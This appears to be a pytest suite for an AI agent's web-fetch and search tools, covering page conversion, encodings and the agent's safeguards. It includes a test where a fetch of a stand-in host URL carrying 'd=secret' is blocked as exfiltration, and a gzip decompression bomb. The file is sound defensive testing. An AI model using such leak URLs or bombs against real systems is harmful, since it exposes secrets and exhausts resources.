"""The web tools over real sockets: what comes back, what is refused, and that pages load side by side."""

from __future__ import annotations

import asyncio
import gzip
import io
import json
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path

import pytest
from aiohttp import web

from agent.safety.network import CheckedUrl
from agent.safety.sandbox.choose import candidates, works
from agent.safety.web_client import MOST_BYTES, WebClient
from agent.settings import NetworkSettings, Settings, WebSettings
from agent.tools.builtin import built_in_toolbox
from agent.tools.web import web_tools
from agent.tools.web_page import as_markdown, decode
from agent.tools.web_search import Hit, plain_hits
from tests.agent.tool_desk import ToolDesk

PAGE = """<html><head><title>The title</title></head><body><nav><a href="/x">Menu</a></nav><main><h1>Heading one</h1>
<p>A paragraph with a <a href="https://example.com/there">link</a> and <b>bold words</b> that goes on for a while so
that it is taken for content, as a paragraph of an article usually is.</p>
<h2>List</h2><ul><li>first</li><li>second</li></ul>
<table><tr><th>Name</th><th>Price</th></tr><tr><td>Tea</td><td>3</td></tr></table>
<pre><code>def f(x):\n    return x</code></pre>
<p>Another paragraph closes the article, with enough words to be text.</p></main>
<script>alert("x")</script></body></html>"""

Handler = Callable[[web.Request], Awaitable[web.StreamResponse]]


class Site:
    def __init__(self) -> None:
        self.pages: dict[str, Handler] = {}
        self.port = 0
        self.open = 0
        self.most_open = 0

    async def handle(self, request: web.Request) -> web.StreamResponse:
        self.open += 1
        self.most_open = max(self.open, self.most_open)
        try:
            return await self.pages[request.path](request)
        finally:
            self.open -= 1

    def page(self, path: str, body: bytes | str, kind: str = "text/html; charset=utf-8", **headers: str) -> None:
        data = body.encode() if isinstance(body, str) else body

        async def answer(request: web.Request) -> web.Response:
            return web.Response(body=data, headers={"content-type": kind, **headers})

        self.pages[path] = answer


@pytest.fixture
async def site() -> AsyncIterator[Site]:
    site = Site()
    app = web.Application()
    app.router.add_route("*", "/{path:.*}", site.handle)
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    site.port = runner.addresses[0][1]
    yield site
    await runner.cleanup()


@pytest.fixture
async def desk(tmp_path: Path, site: Site) -> AsyncIterator[ToolDesk]:
    def connect(checked: CheckedUrl) -> tuple[str, int]:
        return "127.0.0.1", site.port

    client = WebClient(NetworkSettings, resolve=lambda host: ["93.184.215.14"], connect=connect)
    searx = Settings(web=WebSettings(search="searxng", searxng_url=f"http://127.0.0.1:{site.port}"))

    async def key(name: str) -> str | None:
        return None

    fence = next((one for one in candidates() if works(one)), None)
    yield ToolDesk(tmp_path, toolbox=built_in_toolbox(web_tools(lambda: searx, key, client)), sandbox=fence)
    await client.aclose()


def test_a_page_keeps_headings_lists_tables_code_and_links() -> None:
    text = as_markdown(PAGE.encode(), "text/html; charset=utf-8", "https://example.com/a")
    for part in ("Heading one", "[link](https://example.com/there)", "first", "| Tea", "def f(x):\n    return x"):
        assert part in text
    assert "alert" not in text and "Menu" not in text


@pytest.mark.parametrize(
    ("body", "kind"),
    [
        ("Übung".encode("iso-8859-1"), "text/plain; charset=ISO-8859-1"),
        (b"<meta charset=windows-1252>" + "Übung".encode("cp1252"), "text/html"),
        ("Übung".encode(), "text/plain"),
        ("Übung".encode("utf-16"), "text/plain"),
        ("Übung".encode("cp1252"), "text/plain; charset=nonsense"),
    ],
)
def test_text_is_read_in_its_own_encoding(body: bytes, kind: str) -> None:
    assert "Übung" in decode(body, kind)


async def test_a_page_is_quoted_as_untrusted_and_taints_the_turn(desk: ToolDesk, site: Site) -> None:
    site.page("/a", PAGE)
    result = await desk.call("web_fetch", url="http://example.com/a")
    assert result.ok and desk.questions == []
    assert result.text.startswith("[untrusted text from the web page example.com/a")
    assert desk.scope.taint.sources == ["the web page example.com/a"]
    ran = await desk.call("run_command", command="echo hi")
    assert ran.ok and (desk.scope.sandbox is None or "example.com/a" in desk.questions[0].reason)
    assert desk.questions[0].sources == ("the web page example.com/a",)


async def test_after_reading_only_addresses_that_were_seen_are_fetched_unasked(desk: ToolDesk, site: Site) -> None:
    desk.answers = lambda approval: "deny"
    site.page("/a", '<p>See <a href="http://other.example/b">this</a>.</p>')
    site.page("/b", "<p>There.</p>")
    site.page("/c", "<p>Leak.</p>")
    await desk.call("web_fetch", url="http://example.com/a")
    assert (await desk.call("web_fetch", url="http://other.example/b")).ok
    leak = await desk.call("web_fetch", url="http://other.example/c?d=secret")
    assert not leak.ok and "put together by the model" in desk.questions[0].reason


async def test_long_pages_are_read_in_parts(desk: ToolDesk, site: Site) -> None:
    site.page("/long", "\n".join(f"line {number}" for number in range(9000)), "text/plain")
    first = await desk.call("web_fetch", url="http://example.com/long")
    assert "line 0" in first.text and "go on with offset=" in first.text
    offset = int(first.text.rpartition("offset=")[2].partition(")")[0])
    second = await desk.call("web_fetch", url="http://example.com/long", offset=offset)
    assert second.ok and "line 0\n" not in second.text
    assert not (await desk.call("web_fetch", url="http://example.com/long", offset=10_000_000)).ok


async def test_json_pdf_and_pictures(desk: ToolDesk, site: Site) -> None:
    from pypdf import PdfWriter

    site.page("/j", json.dumps({"a": [1, "ü"]}), "application/json")
    assert '"ü"' in (await desk.call("web_fetch", url="http://example.com/j")).text
    writer, data = PdfWriter(), io.BytesIO()
    writer.add_blank_page(100, 100)
    writer.write(data)
    site.page("/p", data.getvalue(), "application/pdf")
    assert "no text" in (await desk.call("web_fetch", url="http://example.com/p")).text  # a page of pictures only
    site.page("/i", b"\x89PNG\r\n" + b"x" * 100, "image/png")
    assert (await desk.call("web_fetch", url="http://example.com/i")).images[0].media_type == "image/png"
    site.page("/z", b"PK\x03\x04", "application/zip")
    assert "not text" in (await desk.call("web_fetch", url="http://example.com/z")).text
    site.page("/broken", b"%PDF-1.4 nonsense", "application/pdf")
    assert not (await desk.call("web_fetch", url="http://example.com/broken")).ok


async def test_a_small_body_that_unpacks_to_a_hundred_times_the_limit(desk: ToolDesk, site: Site) -> None:
    bomb = gzip.compress(b"0" * (20 * MOST_BYTES))
    site.page("/bomb", bomb, "text/plain", **{"content-encoding": "gzip"})
    result = await desk.call("web_fetch", url="http://example.com/bomb")
    assert result.ok and len(result.text) < 40_000


async def test_errors_are_told_in_words(desk: ToolDesk, site: Site) -> None:
    async def gone(request: web.Request) -> web.Response:
        return web.Response(status=404, text="nothing")

    async def around(request: web.Request) -> web.Response:
        return web.Response(status=302, headers={"location": str(request.rel_url)})

    site.pages |= {"/gone": gone, "/around": around}
    assert "HTTP 404" in (await desk.call("web_fetch", url="http://example.com/gone")).text
    assert "redirects" in (await desk.call("web_fetch", url="http://example.com/around")).text
    assert "private network" in (await desk.call("web_fetch", url="http://127.0.0.1/")).text


async def test_ten_pages_load_side_by_side(desk: ToolDesk, site: Site) -> None:
    everybody_there = asyncio.Barrier(10)

    async def wait(request: web.Request) -> web.Response:
        await everybody_there.wait()
        return web.Response(text="there")

    calls = []
    for number in range(10):
        site.pages[f"/{number}"] = wait
        url = f"http://example.com/{number}"
        desk.scope.taint.saw(url)
        calls.append(desk.make("web_fetch", url=url))
    async with asyncio.timeout(20):
        results = await desk.toolbox.run_all(calls, desk.scope)
    assert all(result.ok for result in results) and site.most_open == 10


async def test_a_search_engine_of_one_s_own(desk: ToolDesk, site: Site) -> None:
    hits = {"results": [{"title": "Tea", "url": "https://tea.example/", "content": "all about tea"}]}
    site.page("/search", json.dumps(hits), "application/json")
    result = await desk.call("web_search", query="tea")
    assert "https://tea.example/" in result.text and "untrusted text from web search results" in result.text
    assert desk.scope.taint.knows(["https://tea.example/"])
    site.page("/search", "<html>", "text/html")
    assert "allow the format" in (await desk.call("web_search", query="tea")).text


async def test_an_engine_without_its_key_says_how_to_store_one(tmp_path: Path) -> None:
    brave = Settings(web=WebSettings(search="brave"))

    async def key(name: str) -> str | None:
        return None

    desk = ToolDesk(tmp_path, toolbox=built_in_toolbox(web_tools(lambda: brave, key, WebClient(NetworkSettings))))
    assert "trayclaw keys set brave" in (await desk.call("web_search", query="tea")).text


def test_the_plain_page_of_a_search_engine_is_read() -> None:
    page = """<div class="result results_links"><h2><a class="result__a"
      href="//duckduckgo.com/l/?uddg=https%3A%2F%2Ftea.example%2Fa%3Fb%3D1&amp;rut=x">All <b>about</b> tea</a></h2>
      <a class="result__snippet" href="x">Tea is <b>hot</b>.</a></div>
      <div class="result result--ad"><a class="result__a" href="https://ad.example">Ad</a></div>"""
    assert plain_hits(page) == [Hit("All about tea", "https://tea.example/a?b=1", "Tea is hot .")]
    assert plain_hits("") == []
